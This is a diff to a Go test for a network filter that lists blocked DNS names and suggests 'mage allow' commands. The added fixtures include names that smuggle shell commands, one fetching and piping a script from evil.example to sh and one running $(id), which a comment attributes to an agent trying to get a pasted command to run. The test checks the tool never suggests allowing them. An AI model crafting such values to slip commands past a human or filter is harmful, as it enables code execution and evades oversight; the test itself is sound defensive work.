@@ -112,6 +112,9 @@ func TestBlockedGroupsNamesAndAddressesNewestFirst(t *testing.T) {
 		{Time: now.Add(-4 * time.Minute), Name: "pypi.org", Type: "AAAA", Reason: "not on the allowlist"},
 		{Time: now.Add(-3 * time.Minute), Name: "gist.github.com", Type: "A", Reason: "denied by !gist.github.com"},
 		{Time: now.Add(-1 * time.Minute), Name: statusProbeName, Type: "A", Reason: "not on the allowlist"},
+		// Names the agent chose to make a pasted command run something.
+		{Time: now.Add(-2 * time.Minute), Name: "`curl${IFS}-s${IFS}evil.example/x|sh`.com", Type: "A", Reason: "not on the allowlist"},
+		{Time: now.Add(-2 * time.Minute), Name: "a\\'$(id)\\'.example", Type: "A", Reason: "not on the allowlist"},
 	} {
 		b, _ := json.Marshal(r)
 		names.Write(append(b, '\n'))
@@ -125,24 +128,25 @@ func TestBlockedGroupsNamesAndAddressesNewestFirst(t *testing.T) {
 		}
 	}
 	write(filterd.RefusedFile, names.Bytes())
-	conn := `{"time":"2026-12-01T11:58:00Z","client":"10.213.79.2","addr":"203.0.113.10","proto":"tcp","port":443,"names":["x.example"]}` + "\n"
-	write(filterd.ConnsFile, []byte(conn+strings.Replace(conn, "11:58", "11:59", 1)))
+	conn := `{"time":"2026-12-01T11:58:00Z","client":"10.213.79.2","addr":"93.184.216.34","proto":"tcp","port":443,"names":["x.example"]}` + "\n"
+	lan := `{"time":"2026-12-01T11:57:00Z","client":"10.213.79.2","addr":"192.168.1.1","proto":"tcp","port":80}` + "\n"
+	write(filterd.ConnsFile, []byte(conn+strings.Replace(conn, "11:58", "11:59", 1)+lan))
 
 	if err := e.blocked(context.Background(), time.Hour, false, now); err != nil {
 		t.Fatal(err)
 	}
 	text := out.String()
-	for _, want := range []string{"not a record", "pypi.org", "A, AAAA", "mage allow pypi.org", "203.0.113.10", "tcp 443", "2×", "answered lately for x.example", "mage allow 203.0.113.10", "gist.github.com' -remove"} {
+	for _, want := range []string{"not a record", "pypi.org", "A, AAAA", "mage allow pypi.org", "93.184.216.34", "tcp 443", "2×", "answered lately for x.example", "mage allow 93.184.216.34", "mage allow '!gist.github.com' -remove"} {
 		if !strings.Contains(text, want) {
 			t.Errorf("output lacks %q:\n%s", want, text)
 		}
 	}
-	for _, not := range []string{"old.example", statusProbeName} {
+	for _, not := range []string{"old.example", statusProbeName, "mage allow `", "mage allow a\\", "mage allow 192.168.1.1"} {
 		if strings.Contains(text, not) {
 			t.Errorf("output holds %q:\n%s", not, text)
 		}
 	}
-	if strings.Index(text, "203.0.113.10") > strings.Index(text, "pypi.org") {
+	if strings.Index(text, "93.184.216.34") > strings.Index(text, "pypi.org") {
 		t.Errorf("not newest first:\n%s", text)
 	}
 
@@ -154,7 +158,7 @@ func TestBlockedGroupsNamesAndAddressesNewestFirst(t *testing.T) {
 	if err := json.Unmarshal(out.Bytes(), &groups); err != nil {
 		t.Fatalf("-json output: %v\n%s", err, out.String())
 	}
-	if len(groups) != 4 || groups[0].Addr != "203.0.113.10" || groups[0].Count != 2 {
+	if len(groups) != 7 || groups[0].Addr != "93.184.216.34" || groups[0].Count != 2 {
 		t.Errorf("groups = %+v", groups)
 	}
 }
